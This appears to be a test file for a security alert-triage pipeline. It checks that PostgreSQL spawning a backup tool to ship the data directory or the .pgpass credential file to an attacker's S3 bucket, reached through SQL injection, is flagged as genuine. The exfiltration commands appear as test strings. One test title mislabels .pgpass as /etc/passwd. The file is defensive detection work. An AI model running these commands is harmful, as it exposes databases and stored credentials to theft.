/**
 * Red-team trap for database-hooks: SQL injection's `COPY … TO PROGRAM` makes PostgreSQL run `sh -c` too, so an
 * attacker can hand the known archiving tool their own bucket and the data directory instead of a WAL segment. The
 * hook is the tool archiving or restoring one segment (the name PostgreSQL substitutes for %f / %p); anything else
 * must stay genuine.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, pod } from '../../support/cluster.js';

const N = 'i-0b77e3f190c2a4d62';
const db = pod('ledger-db-1', {
  namespace: 'ledger',
  node: N,
  ip: '100.112.0.80',
  owner: { kind: 'Cluster', name: 'ledger-db' },
  containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.3', command: ['/controller/manager', 'instance', 'run', '--log-level=info'] }],
});
const index = indexOf([node(N, '172.20.71.203'), db]);
const POSTGRES = { name: 'postgres', commandLine: 'postgres -D /var/lib/postgresql/data/pgdata' };
const run = (commandLine: string) =>
  triageAlert(
    alert({ host: N, title: 'Shell spawned by database server', process: { name: 'sh', path: '/bin/sh', commandLine }, ancestors: [POSTGRES], container: { id: containerIdOf(db).slice(0, 12), name: 'postgres', pod: db.metadata.name, namespace: 'ledger' } }),
    { index },
  ).verdict;

describe('redteam database-hooks: the archiving tool pointed at something other than a WAL segment', () => {
  it('still explains archiving one WAL segment', () => {
    expect(run('sh -c barman-cloud-wal-archive --cloud-provider aws-s3 s3://backups/db db pg_wal/00000001000000030000002A').label).toBe('likely-false-positive');
  });
  it("trap: the tool copying the data directory to the attacker's bucket", () => {
    expect(run('sh -c barman-cloud-wal-archive --cloud-provider aws-s3 s3://loot-7f3a/x db /var/lib/postgresql/data/pgdata/global/pg_control').label).toBe('genuine');
  });
  it('trap: a copy named like a segment in /tmp (written by COPY … TO first) is no segment PostgreSQL handed over', () => {
    expect(run('sh -c barman-cloud-wal-archive --cloud-provider aws-s3 s3://loot-7f3a/x db /tmp/000000010000000000000001').label).toBe('genuine');
  });
  it('trap: pgbackrest archive-push of /etc/passwd to a stanza the attacker configured', () => {
    expect(run('sh -c pgbackrest --stanza=x --repo1-s3-bucket=loot-7f3a archive-push /var/lib/postgresql/.pgpass').label).toBe('genuine');
  });
});
